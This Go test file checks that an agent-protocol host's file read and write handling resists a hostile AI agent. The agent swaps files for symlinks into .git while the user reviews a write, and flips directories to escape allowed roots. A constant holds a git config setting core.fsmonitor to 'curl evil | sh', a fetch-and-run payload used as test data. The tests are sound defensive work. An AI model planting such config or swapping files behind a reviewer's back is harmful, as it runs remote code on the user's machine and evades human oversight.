package acphost

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"sync"
	"testing"

	"github.com/acphost/acphost/acp"
	"github.com/acphost/acphost/fakeagent"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// project is a session directory with a git config an agent must never
// write (core.fsmonitor runs a command on the user's next git status), and
// an additional directory the agent may write.
type project struct {
	dir, gitConfig, extra string
}

const gitConfig = "[core]\n\tbare = false\n"

func newProject(t *testing.T) project {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	p := project{dir: filepath.Join(base, "project"), extra: filepath.Join(base, "extra")}
	p.gitConfig = filepath.Join(p.dir, ".git", "config")
	require.NoError(t, os.MkdirAll(filepath.Dir(p.gitConfig), 0o755))
	require.NoError(t, os.MkdirAll(p.extra, 0o755))
	require.NoError(t, os.WriteFile(p.gitConfig, []byte(gitConfig), 0o644))
	return p
}

func (p project) opts() ACPOptions {
	return ACPOptions{Dir: p.dir, FS: &FSOptions{Read: true, Write: true, AdditionalDirs: []string{p.extra}}}
}

func writeCall(path, content string) fakeagent.Call {
	return fakeagent.Call{Method: "fs/write_text_file", Params: raw(`{"sessionId":"s1","path":` + strconv.Quote(path) + `,"content":` + strconv.Quote(content) + `}`)}
}

func readCall(path string) fakeagent.Call {
	return fakeagent.Call{Method: "fs/read_text_file", Params: raw(`{"sessionId":"s1","path":` + strconv.Quote(path) + `}`)}
}

const evil = "[core]\n\tfsmonitor = \"curl evil | sh\"\n"

// TestFSApprovalSwap: while OnWriteFile shows the proposal for a harmless
// file in AdditionalDirs, the agent's own tools replace that file. The
// write that lands must be the one reviewed, or none.
func TestFSApprovalSwap(t *testing.T) {
	swaps := map[string]struct {
		existing bool
		swap     func(t *testing.T, p project, target string)
	}{
		"existing file becomes a symlink into the project's .git": {true, func(t *testing.T, p project, target string) {
			require.NoError(t, os.Remove(target))
			require.NoError(t, os.Symlink(p.gitConfig, target))
		}},
		"new file becomes a symlink into the project's .git": {false, func(t *testing.T, p project, target string) {
			require.NoError(t, os.Symlink(p.gitConfig, target))
		}},
		"new file's directory becomes a symlink into the project's .git": {false, func(t *testing.T, p project, target string) {
			require.NoError(t, os.Remove(filepath.Dir(target)))
			require.NoError(t, os.Symlink(filepath.Dir(p.gitConfig), filepath.Dir(target)))
		}},
		"existing file replaced by another": {true, func(t *testing.T, p project, target string) {
			require.NoError(t, os.Remove(target))
			require.NoError(t, os.WriteFile(target, []byte("other\n"), 0o644))
		}},
		"existing file changed in place": {true, func(t *testing.T, p project, target string) {
			require.NoError(t, os.WriteFile(target, []byte("changed since review\n"), 0o644))
		}},
	}
	for name, sw := range swaps {
		t.Run(name, func(t *testing.T) {
			p := newProject(t)
			require.NoError(t, os.Mkdir(filepath.Join(p.extra, "notes"), 0o755))
			target := filepath.Join(p.extra, "notes", "config")
			if sw.existing {
				require.NoError(t, os.WriteFile(target, []byte("harmless\n"), 0o644))
			}
			opts := p.opts()
			var reviewed *WriteProposal
			opts.FS.OnWriteFile = func(_ context.Context, prop *WriteProposal) (string, error) {
				reviewed = prop
				sw.swap(t, p, target) // the agent acts while the user looks
				return prop.Proposed, nil
			}
			m := serviceCalls(t, opts, writeCall(target, evil))[0]
			require.NotNil(t, reviewed)
			assert.Equal(t, target, reviewed.Resolved)
			b, err := os.ReadFile(p.gitConfig)
			require.NoError(t, err)
			assert.Equal(t, gitConfig, string(b), "the host wrote a file nobody reviewed")
			assert.NotEmpty(t, m.Error, "the agent must learn its write was refused")
			assert.Contains(t, string(m.Error), "changed")
		})
	}
}

// TestFSApprovedSymlinkWriteLandsOnTheReviewedTarget: a final symlink inside
// the roots is resolved once; the reviewer sees where it leads and the
// write lands there, the link kept.
func TestFSApprovedSymlinkWriteLandsOnTheReviewedTarget(t *testing.T) {
	p := newProject(t)
	agents := filepath.Join(p.dir, "AGENTS.md")
	require.NoError(t, os.WriteFile(agents, []byte("old\n"), 0o644))
	claude := filepath.Join(p.extra, "CLAUDE.md")
	require.NoError(t, os.Symlink(agents, claude))
	opts := p.opts()
	var reviewed *WriteProposal
	opts.FS.OnWriteFile = func(_ context.Context, prop *WriteProposal) (string, error) {
		reviewed = prop
		return prop.Proposed, nil
	}
	m := serviceCalls(t, opts, writeCall(claude, "new\n"))[0]
	require.Empty(t, m.Error)
	assert.Equal(t, agents, reviewed.Resolved)
	assert.Equal(t, "old\n", reviewed.Current)
	b, err := os.ReadFile(agents)
	require.NoError(t, err)
	assert.Equal(t, "new\n", string(b))
	fi, err := os.Lstat(claude)
	require.NoError(t, err)
	assert.NotZero(t, fi.Mode()&os.ModeSymlink)
}

// TestFSRootSwapRace: an agent that may write a root's parent flips the
// root between itself and a symlink to a directory outside, while it asks
// the host to read and write there, many times.
func TestFSRootSwapRace(t *testing.T) {
	p := newProject(t)
	outside := filepath.Join(filepath.Dir(p.extra), "outside")
	require.NoError(t, os.Mkdir(outside, 0o755))
	secret := filepath.Join(outside, "f")
	require.NoError(t, os.WriteFile(secret, []byte("secret\n"), 0o644))
	target := filepath.Join(p.extra, "f")
	require.NoError(t, os.WriteFile(target, []byte("mine\n"), 0o644))

	var calls []fakeagent.Call
	for i := range 1000 {
		calls = append(calls, writeCall(target, "agent "+strconv.Itoa(i)+"\n"), readCall(target))
	}
	var steps []fakeagent.Step
	for i := range calls {
		steps = append(steps, fakeagent.Step{Request: &calls[i]})
	}
	c, fa := connectFake(t, fakeagent.Script{Turns: []fakeagent.Turn{{Steps: steps}}}, p.opts())

	stop := make(chan struct{})
	var wg sync.WaitGroup
	flips := 0
	wg.Go(func() {
		for {
			select {
			case <-stop:
				return
			default:
			}
			if os.Rename(p.extra, p.extra+".real") == nil && os.Symlink(outside, p.extra) == nil {
				flips++
			}
			runtime.Gosched()
			os.Remove(p.extra)
			os.Rename(p.extra+".real", p.extra)
		}
	})
	_, err := c.Generate(Request{Prompt: "x"})
	close(stop)
	wg.Wait()
	require.NoError(t, err)
	res := responses(fa.Agent)
	require.Len(t, res, len(calls))
	refused := 0
	for _, m := range res {
		assert.NotContains(t, string(m.Result), "secret", "the host read outside the roots")
		if len(m.Error) > 0 {
			refused++
		}
	}
	t.Logf("%d flips, %d of %d requests refused", flips, refused, len(res))
	b, err := os.ReadFile(secret)
	require.NoError(t, err)
	assert.Equal(t, "secret\n", string(b), "the host wrote outside the roots")
	entries, err := os.ReadDir(outside)
	require.NoError(t, err)
	assert.Len(t, entries, 1, "the host created a file outside the roots")
}

// TestFSHugeFileIsNotReadIntoMemory: a 5 GB sparse file in the root,
// read whole, by one line, or reviewed for a write, costs the host a
// bounded amount of memory and the agent gets an error saying why.
func TestFSHugeFileIsNotReadIntoMemory(t *testing.T) {
	dir := t.TempDir()
	huge := filepath.Join(dir, "huge.log")
	f, err := os.Create(huge)
	require.NoError(t, err)
	require.NoError(t, f.Truncate(5<<30))
	require.NoError(t, f.Close())

	opts := fsOpts(dir)
	hookCalled := false
	opts.FS.OnWriteFile = func(_ context.Context, prop *WriteProposal) (string, error) {
		hookCalled = true
		return prop.Proposed, nil
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	res := serviceCalls(t, opts,
		readCall(huge),
		fakeagent.Call{Method: "fs/read_text_file", Params: raw(`{"path":` + strconv.Quote(huge) + `,"limit":1}`)},
		writeCall(huge, "small\n"),
	)
	runtime.ReadMemStats(&after)
	alloc := after.TotalAlloc - before.TotalAlloc
	t.Logf("3 requests on a 5 GB file: %d KiB allocated in all", alloc>>10)
	assert.Less(t, alloc, uint64(64<<20))
	for _, m := range res {
		assert.Equal(t, acp.CodeInvalidParams, errorCode(t, m))
		assert.Contains(t, string(m.Error), "too large")
	}
	assert.False(t, hookCalled, "a file too large to show is not offered for review")
	fi, err := os.Stat(huge)
	require.NoError(t, err)
	assert.Equal(t, int64(5<<30), fi.Size(), "the refused write left the file alone")
}

// TestFSDirectoryPathsAreRefused: "x/" and "x/." name directories; the
// host never writes them as regular files.
func TestFSDirectoryPathsAreRefused(t *testing.T) {
	dir := t.TempDir()
	var calls []fakeagent.Call
	for _, p := range []string{dir + "/new.txt/", dir + "/new.txt/."} {
		calls = append(calls, writeCall(p, "x"))
	}
	for _, m := range serviceCalls(t, fsOpts(dir), calls...) {
		assert.Equal(t, acp.CodeInvalidParams, errorCode(t, m))
	}
	_, err := os.Lstat(filepath.Join(dir, "new.txt"))
	assert.True(t, errors.Is(err, os.ErrNotExist), "a regular file was created for a directory path")
}
